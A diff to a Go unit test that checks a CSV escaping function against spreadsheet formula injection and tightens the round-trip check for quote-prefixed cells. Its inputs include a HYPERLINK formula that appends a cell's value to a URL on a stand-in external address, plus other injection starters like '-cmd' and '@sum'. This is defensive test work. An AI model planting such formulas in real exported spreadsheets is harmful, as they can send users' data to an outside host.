@@ -31,11 +31,9 @@ func TestCellsOfCSVAreNoFormulas(t *testing.T) {
 	for in, want := range map[string]string{
 		`=HYPERLINK("http://192.0.2.1/"&A1)`: `'=HYPERLINK("http://192.0.2.1/"&A1)`,
 		"+358 40":                            "'+358 40", "-cmd": "'-cmd", "@sum": "'@sum", "\tx": "'\tx", "\rx": "'\rx",
-		"-81": "-81", "+1.5": "+1.5", "-81,5": "-81,5", "plain": "plain", "": "", "a=b": "a=b", "'quoted'": "'quoted'", "'-": "'-",
+		"-81": "-81", "+1.5": "+1.5", "-81,5": "-81,5", "plain": "plain", "": "", "a=b": "a=b", "'quoted'": "'quoted'", "'-": "''-", "'-5": "'-5", "''=x": "'''=x",
 	} {
 		assert.Equal(t, want, Cell(in), "%q", in)
-		if in != "'-" {
-			assert.Equal(t, in, CellRead(Cell(in)), "%q comes back", in)
-		}
+		assert.Equal(t, in, CellRead(Cell(in)), "%q comes back", in)
 	}
 }
